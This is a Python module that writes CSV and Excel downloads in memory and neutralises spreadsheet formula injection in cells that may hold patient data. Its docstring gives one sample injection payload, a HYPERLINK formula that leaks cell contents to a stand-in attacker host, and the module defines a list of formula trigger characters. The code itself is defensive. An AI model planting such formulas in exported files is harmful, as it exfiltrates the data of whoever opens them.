"""Safe CSV and Excel downloads: spreadsheet formula injection neutralised, all in memory.

Anything the dashboard offers for download may contain text from an uploaded file (patient IDs,
group labels, free-text columns, column names). A spreadsheet program runs a cell that starts
with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or carriage return) as a formula, so a
crafted cell such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` could leak data or run
commands on the clinician's machine. Every *text* cell and every column name that starts with one
of those characters is prefixed with a single quote, as OWASP recommends; real numbers, dates and
missing values are written as they are, so ``-1.5`` stays a number.

Both writers build the file in memory and return bytes: nothing touches the disk.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Mapping

import numpy as np
import pandas as pd
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.drawing.spreadsheet_drawing import SpreadsheetDrawing
from openpyxl.worksheet._writer import WorksheetWriter
from openpyxl.writer.excel import ExcelWriter

from .errors import CohortError

__all__ = [
    "FORMULA_PREFIXES",
    "escape_formula",
    "neutralise_formulas",
    "to_csv_bytes",
    "to_excel_bytes",
    "sheets_to_excel_bytes",
]

# OWASP "CSV Injection": =, +, -, @, tab (0x09) and carriage return (0x0D).
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")

# Excel's rules for sheet names: at most 31 characters, none of []:*?/\ .
_SHEET_NAME_MAX = 31
_SHEET_NAME_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")


def escape_formula(value: object) -> object:
    """Return ``value`` with a leading single quote if it is text a spreadsheet would execute.

    Parameters
    ----------
    value : object
        One cell. Only ``str`` values are ever changed.

    Returns
    -------
    object
        ``"'" + value`` for a string starting with one of :data:`FORMULA_PREFIXES`, otherwise
        ``value`` unchanged (numbers, including negative ones, stay numbers).

    Notes
    -----
    OWASP CSV-injection mitigation (prefix with a single quote). R's ``write.csv`` and
    ``openxlsx::write.xlsx`` have no equivalent: they write such cells verbatim.
    """
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def _text_mask(col: pd.Series, test) -> pd.Series:
    """Boolean mask: string cells for which ``test(col)`` holds; non-string cells are False."""
    try:
        # .str yields NaN for the non-string cells of a mixed object column: not text.
        hits = test(col)
    except AttributeError:
        # pandas refuses .str on an object column without any strings (all numbers or NaN).
        return pd.Series(False, index=col.index)
    return hits.astype("boolean").fillna(False).astype(bool)


def _escape_text_column(col: pd.Series) -> pd.Series:
    """Escape the string cells of one column; other cells (numbers in a mixed column) stay."""
    if isinstance(col.dtype, pd.CategoricalDtype):
        col = col.astype(object)
    if not (pd.api.types.is_object_dtype(col.dtype) or pd.api.types.is_string_dtype(col.dtype)):
        return col
    risky = _text_mask(col, lambda text: text.str.startswith(FORMULA_PREFIXES))
    if not risky.any():
        return col
    out = col.copy()
    out[risky] = "'" + col[risky]
    return out


def neutralise_formulas(df: pd.DataFrame, *, index: bool = False) -> pd.DataFrame:
    """Return a copy of ``df`` whose text cells and column names cannot run as formulas.

    Parameters
    ----------
    df : pandas.DataFrame
        The table to export; not modified.
    index : bool, default False
        Keep the index as leading column(s) (escaped like any other text).

    Returns
    -------
    pandas.DataFrame
        Same shape and dtypes for numeric, boolean and datetime columns; string cells that start
        with ``=``, ``+``, ``-``, ``@``, tab or carriage return get a leading ``'``.

    Notes
    -----
    OWASP CSV-injection mitigation applied column-wise with pandas string methods (no R
    equivalent).
    """
    out = df.reset_index() if index else df.copy()
    out.columns = out.columns.map(
        lambda c: tuple(escape_formula(x) for x in c) if isinstance(c, tuple) else escape_formula(c)
    )
    for i in range(out.shape[1]):
        out.isetitem(i, _escape_text_column(out.iloc[:, i]))
    return out


def to_csv_bytes(df: pd.DataFrame, *, index: bool = False, encoding: str = "utf-8-sig") -> bytes:
    """Write ``df`` as CSV bytes, safe to open in Excel or LibreOffice.

    Parameters
    ----------
    df : pandas.DataFrame
        The table to export.
    index : bool, default False
        Write the index as leading column(s).
    encoding : str, default "utf-8-sig"
        The byte-order mark lets Excel recognise UTF-8 (umlauts in names and labels).

    Returns
    -------
    bytes
        Comma-separated with CRLF line ends (RFC 4180), missing values as empty fields. A field
        holding a comma, quote, CR or LF is quoted, so text after a line break inside a cell can
        never start a new row (with ``\\n`` line ends Python's csv would leave a bare CR
        unquoted).

    Notes
    -----
    ``pandas.DataFrame.to_csv`` after :func:`neutralise_formulas`; R: ``write.csv`` (which does
    not escape formulas).
    """
    safe = neutralise_formulas(df, index=index)
    text = safe.to_csv(index=False, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    return text.encode(encoding)


def _sheet_name(name: str) -> str:
    clean = _SHEET_NAME_FORBIDDEN.sub("_", str(name)).strip("'")[:_SHEET_NAME_MAX]
    if not clean.strip():
        raise CohortError(
            f"The sheet name {name!r} has nothing left that Excel accepts (a sheet name cannot "
            "be empty or only apostrophes and spaces). Use a name with letters or digits."
        )
    return clean


def _excel_ready(df: pd.DataFrame, *, index: bool) -> pd.DataFrame:
    safe = neutralise_formulas(df, index=index)
    for i in range(safe.shape[1]):
        col = safe.iloc[:, i]
        if isinstance(col.dtype, pd.DatetimeTZDtype):
            # Excel has no time zones; keep the wall-clock time.
            safe.isetitem(i, col.dt.tz_localize(None))
        elif pd.api.types.is_object_dtype(col.dtype) or pd.api.types.is_string_dtype(col.dtype):
            # Control characters are illegal in .xlsx XML; openpyxl would refuse the whole file.
            text = _text_mask(col, lambda t: t.str.contains(ILLEGAL_CHARACTERS_RE, regex=True))
            if text.any():
                fixed = col.copy()
                fixed[text] = col[text].str.replace(ILLEGAL_CHARACTERS_RE, "", regex=True)
                safe.isetitem(i, fixed)
    return safe


def _column_cells(col: pd.Series) -> list[object]:
    """Python values openpyxl can write for one column; missing values become empty cells."""
    # Timestamps are datetime objects, so openpyxl writes them as dates.
    values = col.to_numpy(dtype=object)
    values[np.asarray(col.isna())] = None
    cells = values.tolist()
    for i, v in enumerate(cells):
        # Anything that is not a plain scalar (lists, intervals, ...) is written as its text.
        if v is not None and not isinstance(
            v, str | bool | int | float | dt.datetime | dt.date | dt.timedelta
        ):
            cells[i] = escape_formula(str(v))
    return cells


def _fill_sheet(sheet, frame: pd.DataFrame) -> None:
    """Write the header row and the cells of ``frame`` (already escaped) into ``sheet``."""
    header = [" / ".join(map(str, c)) if isinstance(c, tuple) else c for c in frame.columns]
    sheet.append([c if isinstance(c, str | int | float) else str(c) for c in header])
    columns = [_column_cells(frame.iloc[:, i]) for i in range(frame.shape[1])]
    for row in zip(*columns, strict=True):
        sheet.append(row)
    sheet.freeze_panes = "A2"


class _InMemoryWorksheetWriter(WorksheetWriter):
    """openpyxl's worksheet writer, streaming into memory instead of a named temporary file."""

    def __init__(self, ws) -> None:
        super().__init__(ws, out=io.BytesIO())

    def cleanup(self) -> None:
        # The parent deletes its temporary file here; there is none.
        self.xf.close()


class _InMemoryExcelWriter(ExcelWriter):
    """openpyxl's workbook writer without its temporary files (openpyxl 3.1 writes every
    worksheet to /tmp first, which would put patient data on disk)."""

    def write_worksheet(self, ws) -> None:
        ws._drawing = SpreadsheetDrawing()
        ws._drawing.charts = ws._charts
        ws._drawing.images = ws._images
        writer = _InMemoryWorksheetWriter(ws)
        writer.write()
        ws._rels = writer._rels
        self._archive.writestr(ws.path[1:], writer.out.getvalue())
        self.manifest.append(ws)
        writer.cleanup()


def sheets_to_excel_bytes(sheets: Mapping[str, pd.DataFrame], *, index: bool = False) -> bytes:
    """Write several tables into one .xlsx workbook, one sheet each, in memory.

    Parameters
    ----------
    sheets : Mapping[str, pandas.DataFrame]
        Sheet name -> table, in the order the sheets should appear. Names are shortened to
        31 characters and characters Excel forbids (``[]:*?/\\``) become ``_``.
    index : bool, default False
        Write each index as leading column(s).

    Returns
    -------
    bytes
        The .xlsx file. Text cells that could run as formulas are prefixed with ``'`` and
        stored as text; numbers stay numeric cells; missing values are empty cells.

    Raises
    ------
    CohortError
        If there is no sheet, or two names coincide after cleaning.

    Notes
    -----
    openpyxl, saved into a ``BytesIO`` by a writer that skips openpyxl's temporary files; R:
    ``openxlsx::write.xlsx(list_of_frames)`` (which does not escape formulas).
    """
    if not sheets:
        raise CohortError("There is nothing to export: give at least one table.")
    names = [_sheet_name(n) for n in sheets]
    if len({n.lower() for n in names}) != len(names):
        raise CohortError(
            f"The sheet names {list(sheets)} coincide once shortened to 31 characters (Excel "
            "ignores case). Give each table a distinct, shorter name."
        )
    book = Workbook()
    book.remove(book.active)
    for name, frame in zip(names, sheets.values(), strict=True):
        _fill_sheet(book.create_sheet(name), _excel_ready(frame, index=index))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, allowZip64=True) as archive:
        book.properties.modified = dt.datetime.now(tz=dt.UTC).replace(tzinfo=None)
        _InMemoryExcelWriter(book, archive).save()
    return buffer.getvalue()


def to_excel_bytes(df: pd.DataFrame, sheet_name: str = "data", *, index: bool = False) -> bytes:
    """Write one table as an .xlsx workbook in memory.

    Parameters
    ----------
    df : pandas.DataFrame
        The table to export.
    sheet_name : str, default "data"
        Name of the single sheet (cleaned as in :func:`sheets_to_excel_bytes`).
    index : bool, default False
        Write the index as leading column(s).

    Returns
    -------
    bytes
        The .xlsx file, formula-safe (see :func:`sheets_to_excel_bytes`).

    Notes
    -----
    See :func:`sheets_to_excel_bytes`; R: ``openxlsx::write.xlsx``.
    """
    return sheets_to_excel_bytes({sheet_name: df}, index=index)
